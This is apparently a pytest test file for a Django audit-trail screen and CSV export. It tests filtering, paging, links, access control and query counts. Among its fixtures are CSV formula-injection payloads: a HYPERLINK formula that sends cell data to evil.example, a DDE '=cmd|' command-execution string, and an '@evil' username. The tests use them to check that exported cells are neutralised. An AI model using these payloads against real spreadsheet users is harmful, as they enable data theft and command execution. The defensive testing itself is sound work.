"""The coordinator's audit trail: after real actions on the real plan, the screen lists them, each
filter narrows the list, the CSV holds the same rows with formula characters neutralised, every
link leads to a page, only coordinators get in, and the queries do not grow with the events."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from urllib.parse import urlencode

import pytest
from django.utils import timezone

from naptrack.accounts.services import user_create
from naptrack.audit.models import AuditEvent
from naptrack.audit.services import audit_record
from naptrack.plans.models import Action, Department, Note
from naptrack.plans.services import plan_content_deleted, plan_content_saved
from naptrack.reporting import services
from naptrack.reporting.models import Contribution
from tests.conftest import contribution_of, logged_in

SCREEN = "/audit/"
CSV = "/audit/events.csv"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_CLI = "=cmd|' /C calc'!A0"
HOSTILE_USER = "@evil"


@pytest.fixture
def trail(plan, coordinator, focal_defence, focal_justice, open_round):
    """A round opened by the coordinator; Defence saves and submits 23.a, the coordinator approves
    it and writes the line's synthesis; Justice saves a draft; a focal point whose username starts
    with "@" (created from the command line by a hostile actor text) saves 7.c; the coordinator
    renames a department to a formula and deletes one of the plan's notes."""
    defence = contribution_of(open_round, "23.a", "defence")
    services.contribution_save(
        actor=focal_defence, contribution=defence, version=defence.version, data={"narrative": HOSTILE_NAME}
    )
    defence.refresh_from_db()
    services.contribution_submit(actor=focal_defence, contribution=defence)
    defence.refresh_from_db()
    services.contribution_approve(actor=coordinator, contribution=defence)
    services.synthesis_save(
        actor=coordinator, round=open_round, action=defence.action, text="Defence delivered.", version=None
    )
    justice = Contribution.objects.filter(round=open_round, department__code="justice").first()
    services.contribution_save(
        actor=focal_justice, contribution=justice, version=justice.version, data={"narrative": "Under way."}
    )
    evil = user_create(
        actor=HOSTILE_CLI,
        username=HOSTILE_USER,
        role="focal-point",
        password="correct horse battery staple",
        department_code="defence",
        check_password=False,
    )
    other = contribution_of(open_round, "7.c", "defence")
    services.contribution_save(actor=evil, contribution=other, version=other.version, data={"narrative": "Ok."})
    department = Department.objects.get(code="equality")
    department.name = HOSTILE_NAME
    plan_content_saved(actor=coordinator, obj=department, changed=["name"], created=False)
    note = Note.objects.filter(action__plan=plan).first()
    note_id = note.pk
    plan_content_deleted(actor=coordinator, obj=note)
    return {"defence": defence, "justice": justice, "round": open_round, "note_id": note_id, "department": department}


def rows(client, **filters) -> list:
    response = client.get(SCREEN, filters)
    assert response.status_code == 200
    return response.context["rows"]


def actions(client, **filters) -> list[str]:
    return [row.event.action for row in rows(client, **filters)]


def csv_rows(client, **filters) -> list[list[str]]:
    response = client.get(CSV, filters)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="naptrack-audit-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


# --- the list -------------------------------------------------------------------------------------


def test_the_screen_lists_the_real_actions_newest_first(trail, coordinator_client):
    listed = rows(coordinator_client)
    assert {
        "reporting.round.created",
        "reporting.round.opened",
        "reporting.contribution.saved",
        "reporting.contribution.submitted",
        "reporting.contribution.approved",
        "reporting.synthesis.saved",
        "accounts.user.created",
        "plans.department.edited",
        "plans.note.deleted",
    } <= {row.event.action for row in listed}
    keys = [(row.event.occurred_at, row.event.pk) for row in listed]
    assert keys == sorted(keys, reverse=True)
    assert listed[0].event.action == "plans.note.deleted"
    on_defence = [r.event.action for r in listed if r.event.target_id == str(trail["defence"].pk)]
    assert on_defence == [
        "reporting.contribution.approved",
        "reporting.contribution.submitted",
        "reporting.contribution.saved",
    ]
    html = coordinator_client.get(SCREEN).content.decode()
    assert "Contribution: approved" in html
    assert '<code class="small">reporting.contribution.approved</code>' in html


def test_the_action_filter_offers_the_actions_present_with_readable_labels(trail, coordinator_client):
    form = coordinator_client.get(SCREEN).context["form"]
    choices = dict(form.fields["action"].choices)
    assert choices["reporting.contribution.approved"] == "Contribution: approved"
    assert choices["reporting.synthesis.saved"] == "Synthesis: saved"
    assert choices["plans.department.edited"] == "Department: edited"
    assert "reporting.contribution.reopened" not in choices  # nobody reopened anything
    types = dict(form.fields["target_type"].choices)
    assert types["reporting.contribution"] == "Contribution"
    assert types["plans.department"] == "Department"


def test_filter_by_actor_username_or_command_line_text(trail, coordinator_client):
    by_defence = rows(coordinator_client, actor="focal-defence")
    assert {r.event.action for r in by_defence} == {"reporting.contribution.saved", "reporting.contribution.submitted"}
    assert {r.event.actor_name for r in by_defence} == {"focal-defence"}
    assert {r.event.actor_name for r in rows(coordinator_client, actor="JUSTICE")} == {"focal-justice"}
    by_cli = rows(coordinator_client, actor="cmd|")
    assert [(r.event.action, r.event.target_repr) for r in by_cli] == [("accounts.user.created", HOSTILE_USER)]


def test_filter_by_action(trail, coordinator_client):
    approved = rows(coordinator_client, action="reporting.contribution.approved")
    assert [(r.event.action, r.event.target_id) for r in approved] == [
        ("reporting.contribution.approved", str(trail["defence"].pk))
    ]
    # An action nobody took is not a choice: the form says so and the list is not narrowed by it.
    response = coordinator_client.get(SCREEN, {"action": "reporting.contribution.reopened"})
    assert "action" in response.context["form"].errors


def test_filter_by_dates_in_the_sites_time_zone(trail, coordinator_client):
    saved, submitted, approved = (
        AuditEvent.objects.get(action=f"reporting.contribution.{verb}", target_id=str(trail["defence"].pk))
        for verb in ("saved", "submitted", "approved")
    )
    utc = dt.UTC
    # 23:30 UTC on 2 March 2015 is 00:30 on 3 March in Brussels; 23:30 UTC on 3 March is the 4th there.
    AuditEvent.objects.filter(pk=saved.pk).update(occurred_at=dt.datetime(2015, 3, 2, 23, 30, tzinfo=utc))
    AuditEvent.objects.filter(pk=submitted.pk).update(occurred_at=dt.datetime(2015, 3, 3, 22, 59, tzinfo=utc))
    AuditEvent.objects.filter(pk=approved.pk).update(occurred_at=dt.datetime(2015, 3, 3, 23, 30, tzinfo=utc))
    on_the_3rd = rows(coordinator_client, since="2015-03-03", until="2015-03-03")
    assert [r.event.pk for r in on_the_3rd] == [submitted.pk, saved.pk]
    assert [r.event.pk for r in rows(coordinator_client, since="2015-03-04", until="2015-03-04")] == [approved.pk]
    from_the_4th = {r.event.pk for r in rows(coordinator_client, since="2015-03-04")}
    assert approved.pk in from_the_4th and saved.pk not in from_the_4th and submitted.pk not in from_the_4th
    until_the_3rd = [r.event.pk for r in rows(coordinator_client, until="2015-03-03")]
    assert until_the_3rd[:2] == [submitted.pk, saved.pk]
    assert approved.pk not in until_the_3rd


def test_the_end_date_before_the_start_date_is_an_error_shown_on_the_page(trail, coordinator_client):
    response = coordinator_client.get(SCREEN, {"since": "2015-03-04", "until": "2015-03-03"})
    assert response.status_code == 200
    assert "The end date is before the start date." in response.content.decode()
    assert coordinator_client.get(CSV, {"since": "2015-03-04", "until": "2015-03-03"}).status_code == 400


def test_filter_by_object_type_id_and_name(trail, coordinator_client):
    defence = trail["defence"]
    on_it = rows(coordinator_client, target_type="reporting.contribution", target_id=str(defence.pk))
    assert [r.event.action for r in on_it] == [
        "reporting.contribution.approved",
        "reporting.contribution.submitted",
        "reporting.contribution.saved",
    ]
    on_contributions = rows(coordinator_client, target_type="reporting.contribution")
    assert {r.event.target_type for r in on_contributions} == {"reporting.contribution"}
    assert len(on_contributions) == 5  # Defence's three, Justice's draft, 7.c by "@evil"
    named = rows(coordinator_client, target="· 23.A ·")
    assert {r.event.target_id for r in named} == {str(defence.pk)}
    assert [r.event.action for r in rows(coordinator_client, target="evil.example")] == ["plans.department.edited"]


def test_filters_combine_and_the_pages_keep_them(trail, coordinator_client, focal_defence):
    for contribution in Contribution.objects.filter(round=trail["round"])[:120]:
        audit_record(actor=focal_defence, action="reporting.contribution.saved", target=contribution)
    filters = {"actor": "focal-defence", "action": "reporting.contribution.saved"}
    first = coordinator_client.get(SCREEN, filters)
    assert len(first.context["rows"]) == 50
    assert first.context["page"].paginator.count == 121
    html = first.content.decode()
    assert f'href="?{urlencode(filters).replace("&", "&amp;")}&amp;page=2"' in html
    last = coordinator_client.get(SCREEN, {**filters, "page": 3})
    assert len(last.context["rows"]) == 21
    assert {r.event.actor_name for r in last.context["rows"]} == {"focal-defence"}
    assert f'href="{CSV}?{urlencode(filters).replace("&", "&amp;")}"' in html


def test_the_screen_pages_through_the_newest_events_and_says_how_to_reach_the_others(
    trail, coordinator_client, focal_defence, monkeypatch
):
    from naptrack.audit import views

    for contribution in Contribution.objects.filter(round=trail["round"])[:120]:
        audit_record(actor=focal_defence, action="reporting.contribution.saved", target=contribution)
    monkeypatch.setattr(views, "PAGED_EVENTS", 100)
    filters = {"actor": "focal-defence", "action": "reporting.contribution.saved"}
    first = coordinator_client.get(SCREEN, filters)
    assert first.context["page"].paginator.count == 100 and first.context["page"].paginator.capped
    html = first.content.decode()
    assert "More than 100 events, 1 to 50 shown: the newest 100 are paged here" in html
    newest = AuditEvent.objects.filter(action="reporting.contribution.saved").order_by("-occurred_at", "-id")
    beyond = coordinator_client.get(SCREEN, {**filters, "page": 3})
    assert beyond.context["page"].number == 2, "past the newest hundred: their last page"
    assert [r.event.pk for r in beyond.context["rows"]] == list(newest.values_list("pk", flat=True)[50:100])
    assert 'rel="next"' not in beyond.content.decode()
    # Under the limit, the count is exact.
    monkeypatch.setattr(views, "PAGED_EVENTS", 1000)
    exact = coordinator_client.get(SCREEN, filters)
    assert exact.context["page"].paginator.count == 121 and not exact.context["page"].paginator.capped
    assert "121 events, 1 to 50 shown" in exact.content.decode()


def test_the_filters_choices_are_every_action_and_type_present(trail):
    # Each once (in the database's collation, which need not be Python's order).
    actions, types = AuditEvent.objects.kinds()
    assert len(actions) == len(set(actions)) and len(types) == len(set(types))
    assert set(actions) == set(AuditEvent.objects.values_list("action", flat=True))
    assert set(types) == set(AuditEvent.objects.exclude(target_type="").values_list("target_type", flat=True))
    assert "reporting.contribution.approved" in actions and "plans.department" in types


# --- the CSV --------------------------------------------------------------------------------------


def test_the_csv_has_a_header_and_the_same_rows_as_the_screen(trail, coordinator_client):
    header, *lines = csv_rows(coordinator_client)
    assert header == ["When", "Who", "Action code", "Action", "Object type", "Object id", "Object", "Details"]
    listed = rows(coordinator_client)
    assert [(line[2], line[5]) for line in lines] == [(r.event.action, r.event.target_id) for r in listed]
    approved = next(line for line in lines if line[2] == "reporting.contribution.approved")
    assert approved[1] == "coordinator"
    assert approved[3] == "Contribution: approved"
    assert approved[4] == "reporting.contribution"
    when = dt.datetime.fromisoformat(approved[0])
    assert when.utcoffset() == timezone.localtime(when).utcoffset()  # the site's time zone


def test_the_csv_follows_the_filters(trail, coordinator_client):
    filters = {"actor": "focal-defence", "target_type": "reporting.contribution"}
    _header, *lines = csv_rows(coordinator_client, **filters)
    assert [(line[2], line[5]) for line in lines] == [
        (r.event.action, r.event.target_id) for r in rows(coordinator_client, **filters)
    ]
    assert {line[1] for line in lines} == {"focal-defence"}


def test_the_csv_neutralises_formulas_in_names_and_actors(trail, coordinator_client):
    _header, *lines = csv_rows(coordinator_client)
    renamed = next(line for line in lines if line[2] == "plans.department.edited")
    assert renamed[6] == "'" + HOSTILE_NAME
    created = next(line for line in lines if line[2] == "accounts.user.created" and line[6] == "'" + HOSTILE_USER)
    assert created[1] == "'" + HOSTILE_CLI
    by_evil = [line for line in lines if line[1] == "'" + HOSTILE_USER]
    assert [line[2] for line in by_evil] == ["reporting.contribution.saved"]
    # The narrative sits inside the JSON details, which begin with "{": no cell starts a formula.
    assert any(HOSTILE_NAME.replace('"', '\\"') in line[7] for line in lines)
    for line in lines:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- links ----------------------------------------------------------------------------------------


def test_links_lead_to_the_object_and_its_history(trail, coordinator_client):
    listed = rows(coordinator_client)
    by_type = {}
    for row in listed:
        by_type.setdefault(row.event.target_type, row)
    defence = trail["defence"]
    contribution = next(r for r in listed if r.event.target_id == str(defence.pk))
    assert contribution.links.object_url.endswith(f"#contribution-{defence.pk}")
    assert contribution.links.history_url == f"/contributions/{defence.pk}/history/"
    synthesis = by_type["reporting.synthesis"]
    assert synthesis.links.history_url == f"/rounds/{trail['round'].pk}/lines/23.a/history/"
    assert by_type["reporting.round"].links.object_url == f"/rounds/{trail['round'].pk}/"
    assert by_type["plans.department"].links.history_url.endswith("/history/")
    assert by_type["plans.plan"].links.object_url.startswith("/admin/plans/plan/")
    followed = 0
    for row in listed:
        for url in (row.links.object_url, row.links.history_url) if row.links else ():
            if url:
                assert coordinator_client.get(url.split("#")[0]).status_code == 200, url
                followed += 1
        if row.events_url:
            events = coordinator_client.get(row.events_url)
            assert events.status_code == 200
            assert {r.event.target_id for r in events.context["rows"]} == {row.event.target_id}
    assert followed >= 10


def test_an_object_that_no_longer_exists_is_named_without_a_link(trail, coordinator_client):
    (deleted,) = rows(coordinator_client, action="plans.note.deleted")
    assert deleted.gone
    assert deleted.links is None
    html = coordinator_client.get(SCREEN, {"action": "plans.note.deleted"}).content.decode()
    assert "no longer exists" in html
    assert deleted.event.target_id == str(trail["note_id"])
    # An event whose object type no app resolves is shown without links, not as gone.
    audit_record(actor="tests", action="api.token.revoked", data={"token": "abc"})
    (revoked,) = rows(coordinator_client, action="api.token.revoked")
    assert not revoked.gone and revoked.links is None and revoked.events_url == ""


def test_a_line_edited_in_the_admin_links_to_its_admin_pages(trail, coordinator, coordinator_client):
    line = Action.objects.get(plan__slug="be-nap-2013-2016", code="23.a")
    plan_content_saved(actor=coordinator, obj=line, changed=[], created=False)
    (edited,) = rows(coordinator_client, action="plans.action.edited")
    assert edited.links.object_url == f"/admin/plans/action/{line.pk}/change/"
    assert edited.links.history_url == f"/admin/plans/action/{line.pk}/history/"


# --- who may read it ------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [SCREEN, CSV])
def test_only_coordinators_read_the_trail(trail, reader, focal_defence, anonymous, url):
    assert logged_in(reader).get(url).status_code == 403
    assert logged_in(focal_defence).get(url).status_code == 403
    response = anonymous.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=")


def test_the_header_links_to_the_trail_for_coordinators_only(trail, coordinator_client, reader):
    link = f'href="{SCREEN}"'
    assert link in coordinator_client.get("/rounds/").content.decode()
    assert link not in logged_in(reader).get("/rounds/").content.decode()


def test_the_filter_form_is_labelled_and_the_table_has_headers(trail, coordinator_client):
    html = coordinator_client.get(SCREEN).content.decode()
    for name in ("actor", "action", "since", "until", "target_type", "target_id", "target"):
        assert re.search(rf'<label[^>]* for="id_{name}"', html), name
    assert 'aria-labelledby="filters-title"' in html
    assert "<caption>" in html and '<th scope="col">' in html and '<th scope="row"' in html


# --- queries --------------------------------------------------------------------------------------


def _tenfold() -> int:
    """Nine more copies of every event so far, in the same order: ten times as many events, of
    the same kinds and on the same objects, so that a page shows the same types of object."""
    events = list(AuditEvent.objects.order_by("id"))
    fields = ("actor_id", "actor_name", "action", "target_type", "target_id", "target_repr", "data")
    copies = [AuditEvent(**{f: getattr(e, f) for f in fields}) for _ in range(9) for e in events]
    AuditEvent.objects.bulk_create(copies)
    return len(events)


# session, user, roles; the filters' choices, the count, the page; one per type of object on the
# page: contributions, syntheses, rounds, departments, notes, plans.
LIST_QUERIES = 12
CSV_QUERIES = 5  # session, user, roles; the filters' choices; the events, streamed


def test_the_list_makes_a_fixed_number_of_queries(trail, coordinator_client, django_assert_num_queries):
    with django_assert_num_queries(LIST_QUERIES):
        coordinator_client.get(SCREEN)
    before = _tenfold()
    assert AuditEvent.objects.count() == 10 * before
    with django_assert_num_queries(LIST_QUERIES):
        assert len(coordinator_client.get(SCREEN).context["rows"]) == 50
    with django_assert_num_queries(LIST_QUERIES - 5):  # one type of object, so one resolver
        coordinator_client.get(SCREEN, {"target_type": "reporting.contribution", "page": 2})


def test_the_csv_makes_a_fixed_number_of_queries(trail, coordinator_client, django_assert_num_queries):
    with django_assert_num_queries(CSV_QUERIES):
        b"".join(coordinator_client.get(CSV).streaming_content)
    before = _tenfold()
    with django_assert_num_queries(CSV_QUERIES):
        lines = b"".join(coordinator_client.get(CSV).streaming_content).decode().splitlines()
    assert len(lines) == 10 * before + 1


@pytest.mark.django_db
def test_the_events_have_one_index_led_by_the_action_and_it_ends_with_the_id():
    """audit migration 0002 dropped the index on the action alone (two on PostgreSQL, one of them
    for LIKE patterns) for the (action, id) index, by name on both databases."""
    from django.db import connection

    with connection.cursor() as cursor:
        constraints = connection.introspection.get_constraints(cursor, AuditEvent._meta.db_table)
    led_by_action = {
        name: c["columns"] for name, c in constraints.items() if c["index"] and c["columns"][:1] == ["action"]
    }
    assert led_by_action == {"audit_action_newest": ["action", "id"]}
